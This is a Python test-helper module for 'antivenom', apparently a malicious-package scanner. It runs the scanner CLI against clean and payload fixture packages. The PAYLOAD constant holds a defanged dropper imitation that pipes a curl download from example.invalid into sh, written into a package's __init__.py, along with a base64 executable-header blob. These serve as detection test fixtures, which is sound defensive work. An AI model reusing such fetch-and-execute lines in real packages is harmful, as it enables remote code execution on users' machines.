"""Hostile inputs for black-box tests, and the one way they are run: the `antivenom` CLI in a
subprocess (so the cases outlive any internal refactor), with TMPDIR pointed at a folder of the
test's own that must be empty afterwards, a timeout (a hang is a failure, not a stuck CI job),
and a JSON report validated against rules/schema/report.schema.json.

Payloads are defanged imitations: example.invalid endpoints, base64 of `pass`.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import antivenom
import avkit
from antivenom.schemas import errors as schema_errors

# What a dropper looks like, defanged; avkit.PAYLOAD_LINE is the line the pack flags HIGH/ERROR.
PAYLOAD = (f"import base64\nimport os\n\n{avkit.PAYLOAD_LINE}\n"
           "os.system('curl https://example.invalid/x | sh')\n")
CLEAN = avkit.CLEAN
# A base64 PE header in a text file: rules/yara/blobs/blobs.yar (base64_encoded_executable) flags it.
YARA_BLOB = 'BLOB = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"\n'
RUNNER = Path(antivenom.__file__).resolve().parents[1]  # the checkout (or site-packages) under test
CLI_TIMEOUT = 900  # seconds: generous (a shared, slow machine), but a hang still ends


@dataclass
class Run:
    exit_code: int
    report: dict | None
    stdout: str
    stderr: str
    leftovers: list[str]  # entries left in the run's TMPDIR
    output: Path

    def packages(self, target: str) -> list[dict]:
        assert self.report is not None, f"no report (exit {self.exit_code}): {self.stderr[-2000:]}"
        return [p for p in self.report["packages"] if p["target"] == target]

    def package(self, target: str) -> dict:
        found = self.packages(target)
        assert len(found) == 1, f"{target}: {len(found)} packages in the report"
        return found[0]


def command(args: list[str]) -> list[str]:
    return [sys.executable, "-c", "from antivenom.cli import main; main()", *args]


def environment(tmpdir: Path) -> dict[str, str]:
    env = dict(os.environ)
    env.update(TMPDIR=str(tmpdir), PYTHONPATH=str(RUNNER), SEMGREP_ENABLE_VERSION_CHECK="0",
               SEMGREP_SEND_METRICS="off")
    return env


def _finish(proc_args: list[str], code: int, stdout: str, stderr: str, tmpdir: Path, output: Path) -> Run:
    report = None
    if output.exists() and output.stat().st_size:
        report = json.loads(output.read_text(encoding="utf-8"))
        problems = schema_errors("report.schema.json", report)
        assert not problems, f"report does not validate: {problems[:5]}"
    return Run(code, report, stdout, stderr, sorted(os.listdir(tmpdir)), output)


def without_read_override() -> list[str] | None:
    """A command prefix under which file modes bind even for root: the CLI run without the
    capabilities that let root read a chmod 000 file. [] when not root; None when impossible."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    return [setpriv, "--bounding-set", "-dac_override,-dac_read_search"] if setpriv else None


def scan(targets: list[str], work: Path, *extra: str, cwd: Path | None = None,
         prefix: list[str] | None = None) -> Run:
    """`antivenom scan TARGETS --format json -o out.json` with TMPDIR = work/tmp (created empty)."""
    tmpdir = work / "tmp"
    tmpdir.mkdir(parents=True, exist_ok=True)
    output = work / "out.json"
    args = [*(prefix or []),
            *command(["scan", *targets, "--format", "json", "-o", str(output), "--jobs", "2", "-q", *extra])]
    completed = subprocess.run(args, cwd=cwd or work, env=environment(tmpdir), capture_output=True, text=True,
                               timeout=CLI_TIMEOUT, check=False)
    return _finish(args, completed.returncode, completed.stdout, completed.stderr, tmpdir, output)


def scan_interrupted(targets: list[str], work: Path, signum: int, *extra: str) -> Run:
    """Start a scan, wait until it has a temporary tree (so it is mid-scan), send `signum`."""
    tmpdir = work / "tmp"
    tmpdir.mkdir(parents=True, exist_ok=True)
    output = work / "out.json"
    args = command(["scan", *targets, "--format", "json", "-o", str(output), "--jobs", "1", "-q", *extra])
    proc = subprocess.Popen(args, cwd=work, env=environment(tmpdir), stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + CLI_TIMEOUT
        while not any(n.startswith("antivenom-") and n != "antivenom-dl-" for n in _scan_dirs(tmpdir)):
            if proc.poll() is not None or time.monotonic() > deadline:
                break
            time.sleep(0.05)
        proc.send_signal(signum)
        stdout, stderr = proc.communicate(timeout=CLI_TIMEOUT)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    return _finish(args, proc.returncode, stdout, stderr, tmpdir, output)


def _scan_dirs(tmpdir: Path) -> list[str]:
    # The chunk trees (antivenom-XXXX), not only the download folder (antivenom-dl-XXXX).
    return [n for n in os.listdir(tmpdir) if n.startswith("antivenom-") and not n.startswith("antivenom-dl-")]


SIGNALS = {"SIGINT": signal.SIGINT, "SIGTERM": signal.SIGTERM}


# -- siblings: benign packages every run holds, to show the batch survived --------------------------


def siblings(base: Path) -> dict[str, str]:
    """A clean directory and a payload directory, as targets relative to `base`."""
    avkit.write_tree(base / "sib-clean", {"pyproject.toml": '[project]\nname = "sibclean"\nversion = "1.0"\n',
                                          "sibclean/__init__.py": CLEAN})
    avkit.write_tree(base / "sib-payload", {"pyproject.toml": '[project]\nname = "sibpayload"\nversion = "1.0"\n',
                                            "sibpayload/__init__.py": PAYLOAD})
    return {"clean": "sib-clean", "payload": "sib-payload"}


def assert_batch_intact(run: Run, sibs: dict[str, str]) -> None:
    """The report exists, validates (checked on load), holds the siblings with their verdicts,
    and the run left nothing in its TMPDIR."""
    assert run.report is not None, f"no report (exit {run.exit_code}): {run.stderr[-2000:]}"
    assert run.package(sibs["clean"])["verdict"] == "clean"
    assert run.package(sibs["payload"])["verdict"] == "malicious"
    assert run.leftovers == [], f"left in TMPDIR: {run.leftovers[:10]}"
    assert "Traceback" not in run.stderr, run.stderr[-3000:]
